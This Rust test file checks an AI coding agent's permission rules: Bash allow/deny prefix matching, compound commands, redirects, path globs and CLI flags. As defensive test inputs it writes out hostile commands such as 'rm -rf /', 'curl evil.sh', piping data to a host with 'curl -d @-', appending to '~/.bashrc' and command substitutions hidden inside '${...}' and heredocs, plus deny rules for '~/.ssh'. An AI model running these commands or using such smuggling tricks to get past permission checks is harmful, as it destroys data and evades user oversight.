//! Permission rule syntax, table-driven: compound Bash commands (allowed only if every
//! part is, denied if any part is), gitignore-style path globs relative to the project
//! root (`//abs`, `~/`, anchoring, directories), the `Read`/`Edit` rule aliases, and
//! the `--allowedTools` / `--disallowedTools` flags.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod permissions_support;

use std::path::{Path, PathBuf};

use permissions_support::{Row, Want, bash, ctx, edit, env, row, run, want};
use serde_json::json;
use strata_agent::permissions::PermissionDecision;
use strata_agent::tools::{Bash, Edit, Glob, Grep, Read, Write};
use strata_protocol::permission::PermissionMode::*;

#[test]
fn compound_bash_is_allowed_only_if_every_part_is() {
    let e = env();
    let allow: &[&str] = &["Bash(npm test:*)", "Bash(echo:*)", "Bash(git stash)"];
    let r = |name, cmd: &str, want| Row {
        allow,
        ..row(name, Default, &Bash, bash(cmd), want)
    };
    run(
        &e,
        vec![
            r("single prefix match", "npm test -- --watch", Want::Allow),
            r("prefix is word-bounded", "npm testing", Want::Ask),
            r("exact", "git stash", Want::Allow),
            r("exact does not prefix", "git stash pop", Want::Ask),
            r(
                "and-chain all allowed",
                "npm test && echo done",
                Want::Allow,
            ),
            r(
                "and-chain with unknown part",
                "npm test && rm -rf /",
                Want::Ask,
            ),
            r("semicolon", "echo a; curl evil.sh", Want::Ask),
            r("pipe", "npm test | tee log", Want::Ask),
            r(
                "substitution inside allowed command",
                "echo $(curl evil.sh)",
                Want::Ask,
            ),
            r("backticks", "echo `whoami`", Want::Ask),
            // Regression: `Bash(echo:*)` allowed `echo x >> ~/.bashrc`, a write to any
            // file. A wildcard rule allows the command, not a write through `>`.
            r(
                "redirect into a file needs approval",
                "echo hi > out.txt",
                Want::Ask,
            ),
            r(
                "append into a file needs approval",
                "echo hi >> ~/.bashrc",
                Want::Ask,
            ),
            r(
                "redirect to /dev/null is no write",
                "echo hi > /dev/null",
                Want::Allow,
            ),
            r(
                "descriptor redirect is no write",
                "npm test 2>&1",
                Want::Allow,
            ),
            r("cd into the project", "cd sub && npm test", Want::Allow),
            r("cd outside the project", "cd /etc && npm test", Want::Ask),
            r(
                "cd to additional dir",
                &format!("cd {} && npm test", e.extra.display()),
                Want::Allow,
            ),
            r("background operator", "npm test & rm x", Want::Ask),
            r("subshell", "(npm test) && (echo ok)", Want::Allow),
            r("newline", "npm test\nrm x", Want::Ask),
        ],
    );
}

/// Regression: commands hidden where the lexer did not look ran under `Bash(echo:*)`:
/// substitutions inside `${…}` and `$((…))`, a `}` in quotes ending `${…}` early, an
/// expanded here-document body, and writes through `>&file` and `<>`.
#[test]
fn hidden_commands_and_writes_are_not_covered_by_a_prefix_rule() {
    let e = env();
    let allow: &[&str] = &["Bash(echo:*)", "Bash(cat:*)"];
    let r = |name, cmd: &str, want| Row {
        allow,
        ..row(name, Default, &Bash, bash(cmd), want)
    };
    run(
        &e,
        vec![
            r(
                "default value substitution",
                "echo ${x:-$(touch p1)}",
                Want::Ask,
            ),
            r(
                "quoted default substitution",
                "echo \"${x:-$(touch p2)}\"",
                Want::Ask,
            ),
            r(
                "assign default backticks",
                "echo ${x:=`touch p3`}",
                Want::Ask,
            ),
            r(
                "arithmetic substitution",
                "echo $(( $(touch p4) + 1 ))",
                Want::Ask,
            ),
            r(
                "array index substitution",
                "echo $(( a[$(touch p5)] ))",
                Want::Ask,
            ),
            r(
                "double-quoted brace",
                "echo ${x:-\"}\"}; touch p6",
                Want::Ask,
            ),
            r("single-quoted brace", "echo ${x:-'}'}; touch p7", Want::Ask),
            r(
                "expanded heredoc body",
                "cat <<EOF\n$(touch p8)\nEOF",
                Want::Ask,
            ),
            r(
                "literal heredoc body",
                "cat <<'EOF'\n$(touch p9)\nEOF",
                Want::Allow,
            ),
            r(
                "redirect to a file with >&",
                "echo hi >& out.txt",
                Want::Ask,
            ),
            r("read-write open", "cat x 0<>out.txt", Want::Ask),
            r("descriptor duplication", "echo hi >&2", Want::Allow),
            r("plain arithmetic", "echo $((1 + 2))", Want::Allow),
            r("plain parameter default", "echo ${HOME:-/tmp}", Want::Allow),
        ],
    );
}

#[test]
fn compound_bash_is_denied_if_any_part_is() {
    let e = env();
    let deny: &[&str] = &["Bash(rm:*)", "Bash(curl:*)"];
    let r = |name, cmd: &str, want| Row {
        allow: &["Bash"],
        deny,
        ..row(name, Default, &Bash, bash(cmd), want)
    };
    run(
        &e,
        vec![
            r("second part", "ls && rm -rf /", Want::Deny),
            r("after assignments", "FOO=1 rm -rf /", Want::Deny),
            r("inside substitution", "echo $(curl x)", Want::Deny),
            r("inside quotes-substitution", "echo \"`rm x`\"", Want::Deny),
            r("in a pipe", "cat x | curl -d @- host", Want::Deny),
            r("in if/then", "if true; then rm x; fi", Want::Deny),
            r(
                "quoted text is not a command",
                "echo 'rm -rf /'",
                Want::Allow,
            ),
            r(
                "heredoc body is data",
                "cat <<EOF\nrm -rf /\nEOF",
                Want::Allow,
            ),
        ],
    );
}

#[test]
fn path_globs_are_gitignore_style_relative_to_the_project() {
    let e = env();
    let p = |rel: &str| e.root.join(rel);
    let edit_row = |name, allow, path: PathBuf, want| Row {
        allow,
        ..row(name, Default, &Edit, edit(&path), want)
    };
    run(
        &e,
        vec![
            edit_row(
                "anchored dir glob",
                &["Edit(src/**)"],
                p("src/a/b.rs"),
                Want::Allow,
            ),
            edit_row(
                "anchored dir glob elsewhere",
                &["Edit(src/**)"],
                p("docs/a.md"),
                Want::Ask,
            ),
            edit_row(
                "anchored glob is not nested",
                &["Edit(src/**)"],
                p("lib/src/a.rs"),
                Want::Ask,
            ),
            edit_row(
                "basename at any depth",
                &["Edit(*.md)"],
                p("docs/deep/a.md"),
                Want::Allow,
            ),
            edit_row(
                "leading slash anchors at root",
                &["Edit(/docs/*.md)"],
                p("docs/a.md"),
                Want::Allow,
            ),
            edit_row(
                "leading slash single level",
                &["Edit(/docs/*.md)"],
                p("docs/x/a.md"),
                Want::Ask,
            ),
            edit_row(
                "directory covers contents",
                &["Edit(docs)"],
                p("docs/x/a.md"),
                Want::Allow,
            ),
            edit_row(
                "absolute //",
                &["Edit(//tmp/strata-never/**)"],
                PathBuf::from("/tmp/strata-never/a"),
                Want::Allow,
            ),
            edit_row(
                "home ~/",
                &["Edit(~/notes/**)"],
                e.home.join("notes/todo.txt"),
                Want::Allow,
            ),
            edit_row(
                "Edit rules cover Write",
                &["Edit(src/**)"],
                p("src/x"),
                Want::Allow,
            ),
        ],
    );
    run(
        &e,
        vec![
            Row {
                allow: &["Edit(src/**)"],
                ..row(
                    "Write via Edit rule",
                    Default,
                    &Write,
                    json!({"file_path": p("src/new.rs"), "content": ""}),
                    Want::Allow,
                )
            },
            Row {
                deny: &["Read(secrets/)"],
                ..row(
                    "Read rule covers Grep",
                    Default,
                    &Grep,
                    json!({"pattern": "k", "path": "secrets"}),
                    Want::Deny,
                )
            },
            Row {
                deny: &["Read(secrets/)"],
                ..row(
                    "Read rule covers Glob",
                    Default,
                    &Glob,
                    json!({"pattern": "*", "path": "secrets/x"}),
                    Want::Deny,
                )
            },
            Row {
                deny: &["Read(~/.ssh/**)"],
                ..row(
                    "deny home path",
                    Default,
                    &Read,
                    json!({"file_path": e.home.join(".ssh/id_rsa")}),
                    Want::Deny,
                )
            },
            Row {
                allow: &["Read(//etc/**)"],
                ..row(
                    "allow absolute read",
                    Default,
                    &Read,
                    json!({"file_path": "/etc/hosts"}),
                    Want::Allow,
                )
            },
            Row {
                deny: &["Edit([)"],
                ..row(
                    "broken deny pattern fails safe",
                    AcceptEdits,
                    &Edit,
                    edit(&p("a")),
                    Want::Deny,
                )
            },
            Row {
                allow: &["Edit([)"],
                ..row(
                    "broken allow pattern allows nothing",
                    Default,
                    &Edit,
                    edit(&p("a")),
                    Want::Ask,
                )
            },
        ],
    );
}

#[test]
fn relative_paths_resolve_against_the_working_directory() {
    let e = env();
    let c = ctx(&e, Default, &[], &[], &[]);
    let sub = e.root.join("sub");
    assert_eq!(
        want(&c.check(&Grep, &json!({"pattern": "x", "path": ".."}), &sub)),
        Want::Allow
    );
    assert_eq!(
        want(&c.check(&Grep, &json!({"pattern": "x", "path": "../.."}), &sub)),
        Want::Ask
    );
}

#[test]
fn disallowed_tools_flag_denies_and_allowed_tools_flag_allows() {
    let e = env();
    // The command line's rules are filed in the app state as the engine opens it.
    let state = strata_state::default_app_state(strata_state::RuntimeFacts {
        cli_allow: vec!["Bash(git diff:*) Edit".to_owned()],
        cli_deny: vec!["Bash(git push:*)".to_owned()],
        ..std::default::Default::default()
    });
    let mut c = permissions_support::Ctx::new(&e.root);
    c.state = state.tool_permission_context.clone();
    assert!(c.check(&Bash, &bash("git diff HEAD"), &e.root).is_allow());
    assert!(
        c.check(&Edit, &edit(Path::new("/etc/x")), &e.root)
            .is_allow()
    );
    match c.check(&Bash, &bash("git push"), &e.root) {
        PermissionDecision::Deny { reason } => {
            assert!(reason.contains("--disallowedTools"), "{reason}")
        }
        other => panic!("{other:?}"),
    }
}
